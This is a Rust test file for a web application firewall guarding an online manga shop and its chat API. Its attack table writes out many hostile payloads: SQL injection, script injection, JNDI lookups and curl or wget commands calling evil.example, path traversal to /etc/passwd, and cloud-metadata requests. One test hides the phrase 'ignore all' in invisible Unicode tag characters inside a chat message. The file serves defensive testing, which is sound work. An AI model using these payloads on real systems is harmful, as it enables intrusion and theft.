//! The rules the shop ships, against attacks that must be refused and innocent requests that must pass.

mod support;

use support::{Request, decide, get, message, ours, post_form, post_json};

/// What is refused, and by which rule (among others). Each table row is one request.
fn attacks() -> Vec<(Request, u64)> {
    let mut all = vec![
        // SQL, in a query
        (get("/search?q=1'%20OR%20'1'%3D'1"), 1_000_200),
        (get("/search?q=1%20UNION%20SELECT%20user,password%20FROM%20users"), 1_000_201),
        (get("/search?q=-1%20uNiOn%09sElEcT%201"), 1_000_201),
        (get("/search?q=1/**/union/**/all/**/select/**/null"), 1_000_201),
        (get("/search?q=x')%20or%20('1'%3D'1"), 1_000_203),
        (get("/search?q=1%20and%201%3D1"), 1_000_203),
        (get("/search?q=1;DROP%20TABLE%20users"), 1_000_204),
        (get("/search?q=1'%20AND%20SLEEP(5)--%20"), 1_000_205),
        (get("/search?q=1'%20waitfor%20delay%20'0:0:5'--"), 1_000_205),
        (get("/search?q=select%20table_name%20from%20information_schema.tables"), 1_000_205),
        (get("/search?q=admin'--%20"), 1_000_206),
        (get("/search?q=admin'%2523"), 1_000_206),
        (get("/search?q=1'%2520or%25201%253D1"), 1_000_203),
        (get("/search?q=1%20order%20by%2010--"), 1_000_207),
        (get("/search?q=select%20*%20from%20orders"), 1_000_202),
        (get("/search?q=select%20concat(a,b)%20from%20t"), 1_000_202),
        (get("/search?user[$ne]=x"), 1_000_208),
        (get("/series/1'%20or%201=1--%20"), 1_000_203),
        // script
        (get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"), 1_000_221),
        (get("/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E"), 1_000_222),
        (get("/search?q=%253Cscript%253Ealert(1)%253C/script%253E"), 1_000_221),
        (get("/search?q=%26lt;script%26gt;alert(1)"), 1_000_221),
        (get("/search?q=%5Cu003cscript%5Cu003e"), 1_000_221),
        (get("/search?q=%22%20onmouseover=%22alert(1)"), 1_000_222),
        (get("/search?q=%3Csvg/onload=alert(1)%3E"), 1_000_221),
        (get("/search?q=javascript:alert(document.cookie)"), 1_000_223),
        (get("/search?q=java%09script:alert(1)"), 1_000_223),
        (get("/search?q=data:text/html;base64,PHNjcmlwdD4"), 1_000_223),
        (get("/search?q=';document.location='//evil.example/'"), 1_000_224),
        (get("/search?q=%3Ciframe%20src=//evil.example%3E"), 1_000_221),
        (get("/search?q=%3Cscr%00ipt%3Ealert(1)"), 1_000_105),
        (get("/%3Cscript%3Ealert(1)%3C/script%3E"), 1_000_221),
        // look-ups and templates
        (get("/search?q=%24%7Bjndi:ldap://evil.example/a%7D"), 1_000_230),
        (get("/search?q=%7B%7B7*7%7D%7D"), 1_000_231),
        (get("/search?q=%24%7B7*7%7D"), 1_000_231),
        (get("/search?q=%3C%25%3D7*7%25%3E"), 1_000_231),
        // paths and URLs
        (get("/../../etc/passwd"), 1_000_250),
        (get("/static/..%2f..%2fetc%2fpasswd"), 1_000_250),
        (get("/static/%2e%2e/%2e%2e/etc/passwd"), 1_000_104),
        (get("/static/..%252f..%252fetc/passwd"), 1_000_250),
        (get("/static/..%5c..%5cwindows%5cwin.ini"), 1_000_250),
        (get("/static/%c0%ae%c0%ae/etc/passwd"), 1_000_104),
        (get("/static/....//....//etc/hosts"), 1_000_250),
        (get("/download?file=/etc/passwd"), 1_000_251),
        (get("/download?file=c:%5cwindows%5csystem32%5cdrivers"), 1_000_251),
        (get("/.git/config"), 1_000_252),
        (get("/.env"), 1_000_252),
        (get("/wp-login.php"), 1_000_252),
        (get("/backup/shop.sql"), 1_000_252),
        (get("/proxy?url=file:///etc/passwd"), 1_000_253),
        (get("/proxy?url=http://169.254.169.254/latest/meta-data/"), 1_000_253),
        (get("/proxy?url=php://filter/resource=index"), 1_000_253),
        // commands and code
        (get("/ping?host=1.1.1.1;cat%20/etc/passwd"), 1_000_270),
        (get("/ping?host=1.1.1.1%7Cid"), 1_000_270),
        (get("/ping?host=%24(whoami)"), 1_000_270),
        (get("/ping?host=%60id%60"), 1_000_270),
        (get("/ping?host=x%26%26curl%20http://evil.example/s"), 1_000_270),
        (get("/ping?host=x;wget%24%7BIFS%7Dhttp://evil.example"), 1_000_271),
        (get("/ping?host=x;c'a't%20/etc/passwd"), 1_000_272),
        (get("/ping?host=x%26cmd.exe%20/c%20dir"), 1_000_271),
        (get("/run?code=system('id')"), 1_000_273),
        (get("/run?code=__import__('os').system('id')"), 1_000_273),
        (get("/run?__proto__[admin]=1"), 1_000_274),
        (get("/run?x=%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20x%20SYSTEM%20'file:///x'%3E%5D%3E"), 1_000_275),
        // line ends
        (get("/go?to=x%0d%0aSet-Cookie:%20a=b"), 1_000_150),
        (get("/go%0d%0aLocation:%20x"), 1_000_151),
        // form and JSON bodies, cookies, headers
        (post_form("name=x&comment=1'+UNION+SELECT+1,2,3--+"), 1_000_201),
        (post_form("name=%3Cscript%3Ealert(1)%3C%2Fscript%3E"), 1_000_221),
        (post_json("/v1/session/upgrade", r#"{"token":"x' or '1'='1"}"#), 1_000_203),
        (post_json("/v1/session/upgrade", r#"{"a":{"b":["\u003cscript\u003ealert(1)"]}}"#), 1_000_221),
        (post_json("/v1/session/upgrade", r#"{"user":{"$gt":""}}"#), 1_000_208),
        (post_json("/v1/session/upgrade", r#"{"__proto__":{"admin":true}}"#), 1_000_274),
        (post_json("/v1/chat/messages", r#"{"id":"x' or 1=1-- ","text":"hello"}"#), 1_000_203),
        (
            post_json("/v1/chat/messages", r#"{"id":"1","text":"hi","page":{"path":"/../../etc/passwd"}}"#),
            1_000_250,
        ),
        (get("/").with("Cookie", "theme=1' UNION SELECT password FROM users"), 1_000_201),
        (get("/").with("Cookie", "theme=<script>alert(1)</script>"), 1_000_221),
        (get("/").with("User-Agent", "sqlmap/1.8"), 1_000_280),
        (get("/").with("User-Agent", "() { :;}; /bin/bash -c id"), 1_000_271),
        (get("/").with("X-Api-Version", "${jndi:ldap://evil.example/a}"), 1_000_230),
        (get("/").with("Referer", "https://x/<script>alert(1)</script>"), 1_000_221),
    ];
    all.extend(protocol_violations());
    all
}

fn protocol_violations() -> Vec<(Request, u64)> {
    let many_arguments =
        format!("/search?{}", (0..200).map(|i| format!("a{i}=1")).collect::<Vec<_>>().join("&"));
    let deep = format!("{}1{}", "[".repeat(40), "]".repeat(40));
    let chat = "/v1/chat/messages";
    vec![
        (get("/").method("TRACE"), 1_000_100),
        (get("/").method("PROPFIND"), 1_000_100),
        (get("/").protocol("HTTP/0.9"), 1_000_101),
        (get(&format!("/{}", "a".repeat(5000))), 1_000_102),
        (get("/search?q=%u0053elect"), 1_000_104),
        (get("/search?q=a%00b"), 1_000_105),
        (get("/search?q=%ff%fe"), 1_000_106),
        (get("/").without("Host"), 1_000_110),
        (get("/").with("Host", "other.example"), 1_000_110),
        (get("/").without("Host").with("Host", "a b"), 1_000_111),
        (get("/").with("X Bad", "1"), 1_000_112),
        (get("/").with("X-Bad", "a\r\nX-Injected: 1"), 1_000_113),
        (get("/").with("X-Long", &"a".repeat(9000)), 1_000_114),
        (get("/").with("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11"), 1_000_116),
        (post_json(chat, "{}").with("Transfer-Encoding", "chunked"), 1_000_120),
        (post_json(chat, "{}").with("Content-Length", "3"), 1_000_121),
        (get("/").with("Content-Length", "+5"), 1_000_122),
        (get("/").with("Transfer-Encoding", "xchunked"), 1_000_123),
        (get("/").with("Content-Length", "5"), 1_000_124),
        (get("/").with("Upgrade", "h2c"), 1_000_125),
        (get("/").with("Connection", "close, Authorization"), 1_000_126),
        (post_json(chat, "{}").with("Content-Encoding", "br"), 1_000_130),
        (post_json(chat, "{}").with("Content-Encoding", "gzip, deflate, gzip"), 1_000_130),
        (post_json(chat, "{}").with("Content-Encoding", "gzip"), 1_000_137),
        (post_json(chat, "x").without("Content-Type").with("Content-Type", "text/plain"), 1_000_131),
        (
            post_json(chat, "{}")
                .without("Content-Type")
                .with("Content-Type", "application/json; charset=utf-7"),
            1_000_132,
        ),
        (post_json(chat, "{}").without("Content-Type"), 1_000_133),
        (post_json("/v1/chat/init", "{\"id\":"), 1_000_134),
        (post_json("/v1/chat/init", &deep), 1_000_134),
        (post_json("/v1/chat/init", &format!("\"{}\"", "a".repeat(200_000))), 1_000_134),
        (get(&many_arguments), 1_000_140),
        (get(&format!("/search?{}=1", "n".repeat(300))), 1_000_141),
        (post_form(&format!("a={}", "b".repeat(20_000))), 1_000_142),
    ]
}

fn innocent() -> Vec<Request> {
    let chat = |text: &str| {
        let text = text.replace('\\', "\\\\").replace('"', "\\\"");
        post_json(
            "/v1/chat/messages",
            &format!(r#"{{"id":"0191f3a2-7c1e-7d3a-9f00-1b2c3d4e5f60","text":"{text}"}}"#),
        )
    };
    let mut all = vec![
        get("/"),
        get("/?utm_source=newsletter&utm_campaign=spring-2026"),
        get("/series/one-piece"),
        get("/series/one-piece/volumes/104?edition=hardcover#reviews"),
        get("/search?q=one+piece"),
        get("/search?q=O'Brien"),
        get("/search?q=Dungeons+%26+Dragons"),
        get("/search?q=Cat+%26+Dog"),
        get("/search?q=Tom+%26+ID"),
        get("/search?q=SELECT+a+gift+from+the+drop-down"),
        get("/search?q=what+is+the+union+of+the+snake"),
        get("/search?q=Select+from+our+range+of+manga"),
        get("/search?q=%E3%83%AF%E3%83%B3%E3%83%94%E3%83%BC%E3%82%B9"),
        get("/search?q=%E9%80%B2%E6%92%83%E3%81%AE%E5%B7%A8%E4%BA%BA+%E6%9C%80%E7%B5%82%E5%B7%BB"),
        get("/search?q=C%2B%2B+for+beginners"),
        get("/search?q=price+%3C+1000+yen"),
        get("/search?q=100%25+Perfect+Girl"),
        get("/search?q=Who's+that+girl%3F"),
        get("/search?q=20th+Century+Boys+(Urasawa)"),
        get("/search?q=%22exact+title%22"),
        get("/search?q=Ranma+1%2F2"),
        get("/search?q=.hack%2F%2Flegend"),
        get("/search?q=wait..."),
        get("/search?q=rock+'n'+roll"),
        get("/search?q=Yu-Gi-Oh!+and+Pok%C3%A9mon"),
        get("/search?q=%23manga"),
        get("/search?q=a;b"),
        get("/search?sort=price&order=desc&page=2&limit=24"),
        get("/search?genre[]=shonen&genre[]=seinen"),
        get("/search?from=2020-01-01&to=2026-12-31"),
        get("/search?q=drop+table+reservations"),
        get("/v1/chat/history?before=0191f3a2-7c1e-7d3a-9f00-1b2c3d4e5f60&limit=50"),
        get("/assets/index-BX3f9a1c.js"),
        get("/assets/style.5d41402a.css"),
        get("/favicon.ico"),
        get("/robots.txt"),
        get("/.well-known/security.txt"),
        get("/fonts/noto-sans-jp.woff2"),
        get("/images/covers/one-piece-1.webp?w=320&h=480"),
        get("/returns?order=MA-2026-000123"),
        get("/login?next=%2Fseries%2Fone-piece%3Fpage%3D2"),
        get("/login?next=https%3A%2F%2Fshop.example.com%2Fcart"),
        get("/v1/chat/ws")
            .with("Connection", "keep-alive, Upgrade")
            .with("Upgrade", "websocket")
            .with("Sec-WebSocket-Version", "13")
            .with("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")
            .with("Sec-WebSocket-Extensions", "permessage-deflate; client_max_window_bits")
            .with("Origin", "https://shop.example.com"),
        get("/").without("Accept"),
        get("/").without("Accept").with("Accept", ""),
        get("/").without("User-Agent"),
        get("/").without("User-Agent").with("User-Agent", "curl/8.5.0"),
        get("/").with("Sec-CH-UA", r#""Chromium";v="131", "Not_A Brand";v="24", "Google Chrome";v="131""#),
        get("/").with("Sec-CH-UA-Platform", r#""Windows""#),
        get("/").with(
            "Cookie",
            "__Host-session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJndWVzdC0xMjM0NTYifQ.c2lnbmF0dXJlLWJ5dGVz",
        ),
        get("/").with(
            "Cookie",
            "session=dGhpcyBpcyBhIHRlc3QgY29va2ll==; _ga=GA1.2.1234567890.1700000000; theme=dark",
        ),
        get("/").with("Cookie", "prefs=%7B%22lang%22%3A%22ja%22%2C%22size%22%3A12%7D; consent=a:1|b:0"),
        get("/").with("Authorization", "Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxIn0.MEUCIQDx-_abc"),
        get("/").with("Referer", "https://www.google.com/search?q=one+piece+%22volume+1%22&hl=en"),
        get("/").with("Referer", "https://shop.example.com/search?q=O'Brien+%26+sons"),
        get("/").with("If-None-Match", "W/\"5d41402abc4b2a76b9719d911017c592\""),
        get("/").with("Range", "bytes=0-1023"),
        get("/").with("Accept-Language", "ja,en-US;q=0.9,en;q=0.8"),
        get("/health").method("HEAD"),
        get("/v1/chat/messages")
            .method("OPTIONS")
            .with("Access-Control-Request-Method", "POST")
            .with("Access-Control-Request-Headers", "content-type")
            .with("Origin", "https://shop.example.com"),
        post_json("/v1/chat/init", "{}"),
        post_json(
            "/v1/chat/init",
            r#"{"language":"ja","page":{"path":"/series/one-piece","title":"ワンピース | 漫画"}}"#,
        ),
        post_json(
            "/v1/chat/init",
            r#"{"page":{"url":"https://shop.example.com/series/one-piece?ref=a&b=c"}}"#,
        ),
        post_json("/v1/chat/init", r#"{"page":{"url":"http://localhost:8080/series/one-piece"}}"#),
        post_json(
            "/v1/chat/feedback",
            r#"{"id":"1","rating":"down","comment":"it said 'select * from x' -- why?"}"#,
        ),
        post_json("/v1/session/upgrade", r#"{"token":"eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxIn0.MEUCIQDx-_abc"}"#),
        post_form(
            "name=Miles+O%27Brien&address=12+Rue+de+l%27%C3%89glise&city=Paris&note=Ring+twice%3B+thanks",
        ),
        post_form("name=%E5%B1%B1%E7%94%B0%E5%A4%AA%E9%83%8E&email=yamada%2Bshop%40example.jp&agree=on"),
        post_form("comment=I+love+it%21+%3A-%29+10%2F10%2C+would+read+again+%26+again"),
    ];
    all.extend(
        [
            "Can I drop table reservations in Restaurant to Another World?",
            "In the manga about SQL, what does SELECT name FROM heroes WHERE power > 9000 mean?",
            "It says <script>alert(1)</script> in chapter 3, is that a misprint?",
            "What does rm -rf / do in Hacking for Beginners; cat /etc/passwd?",
            "ワンピースの最新刊はいつ発売ですか？『101巻』まで持っています。",
            "Is the \"Deluxe\" edition 30% off? My name's O'Brien.",
            "{{7*7}} was printed in my e-mail, and ${name} too",
        ]
        .map(chat),
    );
    all
}

#[test]
fn every_attack_is_refused_and_the_rule_meant_for_it_matched() {
    let rules = ours();
    let attacks = attacks();
    assert!(attacks.len() >= 100);
    let mut failures = Vec::new();
    for (request, expected) in &attacks {
        let (status, ids) = decide(&rules, request);
        if status.is_none() || !ids.contains(expected) {
            failures.push(format!("{request}: {status:?}, expected {expected} among {ids:?}"));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn every_innocent_request_passes() {
    let rules = ours();
    let innocent = innocent();
    assert!(innocent.len() >= 70);
    let mut failures = Vec::new();
    for request in &innocent {
        let (status, ids) = decide(&rules, request);
        if status.is_some() || !ids.is_empty() {
            failures.push(format!("{request}: {status:?} by {ids:?}"));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn a_percent_sign_that_was_typed_is_noted_and_passes() {
    let (status, ids) = decide(&ours(), &get("/search?q=100%"));
    assert_eq!((status, ids), (None, vec![1_000_103, 1_000_136]));
}

#[test]
fn a_message_may_say_anything_a_person_types() {
    let rules = ours();
    for text in [
        "Which volume has the Enies Lobby arc?",
        "drop table reservations; SELECT * FROM manga WHERE price < 1000 --",
        "<script>alert('hi')</script> ../../etc/passwd",
        "ワンピースの新刊はいつですか？\nよろしくお願いします。\t(急いでいます)",
        "Tiếng Việt: Tôi muốn mua truyện tranh ế ộ ữ",
        "👨‍👩‍👧‍👦 family, 🏴󠁧󠁢󠁥󠁮󠁧󠁿 flag, ❤️ heart, 👍🏽 skin",
        "مرحبا، هل لديكم مانغا؟ \u{200f}(نعم)",
        "می‌خواهم یک کتاب بخرم",
        "葛󠄀城市の漫画はありますか",
        "",
    ] {
        assert_eq!(message(&rules, text), (None, vec![]), "{text}");
    }
}

#[test]
fn a_message_that_hides_or_turns_text_is_refused() {
    let rules = ours();
    for (text, rule) in [
        ("a\u{0}b".to_owned(), 1_000_400),
        ("\u{1b}[31mred".to_owned(), 1_000_400),
        ("c1 \u{9b}31m".to_owned(), 1_000_400),
        ("\u{202e}txet desrever".to_owned(), 1_000_401),
        ("\u{2066}a\u{2069}".repeat(8), 1_000_401),
        ("a\u{200b}\u{200b}\u{200b}b".to_owned(), 1_000_402),
        (
            "hello"
                .chars()
                .chain("ignore all".chars().map(|c| char::from_u32(0xe0000 + c as u32).expect("a tag")))
                .collect(),
            1_000_403,
        ),
        ("x\u{e0101}\u{e0102}\u{e0103}".to_owned(), 1_000_404),
        (format!("z{}", "\u{0336}\u{0301}".repeat(10)), 1_000_405),
        ("\u{fff9}a\u{fffa}b\u{fffb}".to_owned(), 1_000_406),
        ("a".repeat(20_000), 1_000_407),
    ] {
        let (status, ids) = message(&rules, &text);
        assert!(status.is_some() && ids.contains(&rule), "{rule}: {status:?} {ids:?} {text:?}");
    }
}

#[test]
fn detection_reports_and_refuses_nothing() {
    let rules = ours();
    let request = get("/search?q=1'%20OR%20'1'%3D'1");
    let mut transaction = seclang::Transaction::new(&rules, seclang::Mode::Detect);
    assert_eq!(support::send(&mut transaction, &request), None);
    let matches = transaction.matches();
    assert!(matches.iter().any(|m| m.rule_id == 1_000_903 && m.disruptive), "{matches:?}");
    let sql = matches.iter().find(|m| m.rule_id == 1_000_200).expect("the grammar's rule");
    assert_eq!((sql.variable.as_str(), sql.severity), ("ARGS:q", Some(seclang::Severity::Critical)));
    assert_eq!((sql.score, sql.matched.as_slice()), (5, b"1' OR '1'='1".as_slice()));
    assert!(sql.tags.iter().any(|tag| tag == "attack-sqli"));
}

#[test]
fn a_used_workspace_knows_nothing_of_what_was_before() {
    let rules = ours();
    let mut workspace = seclang::Workspace::default();
    for _ in 0..2 {
        for request in attacks().iter().map(|(request, _)| request).chain(&innocent()) {
            let fresh = decide(&rules, request);
            let mut transaction =
                seclang::Transaction::with_workspace(&rules, seclang::Mode::Block, workspace);
            let status = support::send(&mut transaction, request);
            let ids: Vec<u64> = transaction.matches().iter().map(|m| m.rule_id).collect();
            assert_eq!((status, ids), fresh, "{request}");
            workspace = transaction.into_workspace();
        }
    }
}
